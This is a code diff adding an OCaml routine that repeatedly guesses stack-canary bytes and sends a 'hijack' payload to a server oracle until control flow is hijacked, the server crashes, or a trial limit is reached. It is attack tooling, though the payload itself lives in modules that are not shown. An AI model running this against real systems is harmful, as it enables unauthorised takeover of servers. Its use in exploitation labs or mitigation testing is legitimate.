@@ -1,0 +1,30 @@
+type outcome =
+  | Broken of { canary : bytes; trials : int }
+  | Exhausted of { trials : int }
+  | Oracle_lost of { trials : int; detail : string }
+
+let outcome_to_string = function
+  | Broken { canary; trials } ->
+    Printf.sprintf "BROKEN after %d trials (canary %s)" trials
+      (Util.Hex.of_bytes canary)
+  | Exhausted { trials } -> Printf.sprintf "exhausted after %d trials" trials
+  | Oracle_lost { trials; detail } ->
+    Printf.sprintf "oracle lost after %d trials: %s" trials detail
+
+let run ?(seed = 0xB47EL) oracle ~layout ~max_trials =
+  let rng = Util.Prng.create seed in
+  let rec loop () =
+    if Oracle.queries oracle >= max_trials then
+      Exhausted { trials = Oracle.queries oracle }
+    else begin
+      let canary = Util.Prng.bytes rng layout.Payload.canary_len in
+      match Oracle.query oracle (Payload.hijack layout ~canary) with
+      | Oracle.Server_down detail ->
+        Oracle_lost { trials = Oracle.queries oracle; detail }
+      | response ->
+        if Payload.hijacked response then
+          Broken { canary; trials = Oracle.queries oracle }
+        else loop ()
+    end
+  in
+  loop ()
